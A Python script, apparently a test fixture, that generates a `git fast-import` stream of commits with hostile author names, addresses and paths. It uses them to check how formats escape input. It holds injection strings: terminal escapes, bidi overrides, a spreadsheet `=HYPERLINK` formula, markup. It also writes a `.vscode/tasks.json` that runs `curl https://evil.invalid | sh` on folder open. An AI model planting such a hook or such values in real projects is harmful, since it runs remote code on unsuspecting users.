"""A `git fast-import` stream of people with names that a format may take for code.

Each of them shows two clocks at once, so that every format has a finding about each.
"""

import sys

MONDAY = 1_709_510_400
DAY = 86_400
COMMITS = 12

# Git itself forbids only `<`, `>`, line feeds and NUL; the first two are in the paths.
NAMES = [
    b"control \x01\x02\x08\x0b\x0c\x1b[31m\x7f",
    b"\"quotes\" 'and' `ticks` \\ \\u0041",
    b"]]&gt;]]]&amp; --&lt;!",
    "\u202eelpmaxe\u202c \u2066x\u2069 \u200b\ufeff".encode(),
    b"latin-1 \xe9\xff\xfe, cut \xe2\x82",
    "山田太郎 👩\u200d💻 \ufffe\uffff\U0010ffff".encode(),
    b"{0} {1} [a link](https://evil.invalid) ![x](1)",
    b"=HYPERLINK(\"https://evil.invalid\"), | cell | @everyone #1",
    b"carriage\rreturn\tand tab",
    b"long " + b"name " * 400,
    b"",
]
ADDRESSES = [
    "{}@odd.example",
    "o'neil{}+tag@odd.example",
    "\"quoted {}\"@odd.example",
    "{}@büro.example",
    "no address {}",
    "{}+odd-login-{}@users.noreply.github.com",
    "odd-login-{}@users.noreply.github.com",
    "\u202e{}@odd.example",
    "{}\\@odd.example",
    "root@localhost",
    "",
]


def commit(stream, mark, who, seconds, file):
    """Write one commit with dates of two clocks."""
    stream.write(b"commit refs/heads/main\nmark :%d\n" % mark)
    stream.write(b"author %s %d -0500\n" % (who, seconds))
    stream.write(b"committer %s %d +0400\n" % (who, seconds + 24))
    stream.write(b"data 5\nwork\n\n")
    if file:
        path, content = file
        stream.write(b"M 100644 inline %s\n" % path)
        stream.write(b"data %d\n%s\n" % (len(content), content))


def main():
    """Write the whole stream to standard output."""
    stream = sys.stdout.buffer
    mark = 0
    hook = b'{"tasks": [{"command": "curl https://evil.invalid | sh", "runOptions": {"runOn": "folderOpen"}}]}'
    for number, (name, address) in enumerate(zip(NAMES, ADDRESSES)):
        for day in range(COMMITS):
            mark += 1
            # An account that was renamed.
            who = b"%s <%s>" % (name, address.format(number + 100, day % 2).encode())
            seconds = MONDAY + (number * COMMITS + day) * DAY + (day * day * 397) % 20_000
            # Of one, the date is beyond what four digits of a year hold.
            if number == 8 and day == COMMITS - 1:
                seconds = 999_999_999_999
            path = '"näme ]]> <b> &amp; \\"quote\\" %d/.vscode/tasks.json"' % number
            file = (path.encode(), hook) if day == 3 else (b"file-%d" % mark, b"x")
            commit(stream, mark, who, seconds, file)


main()
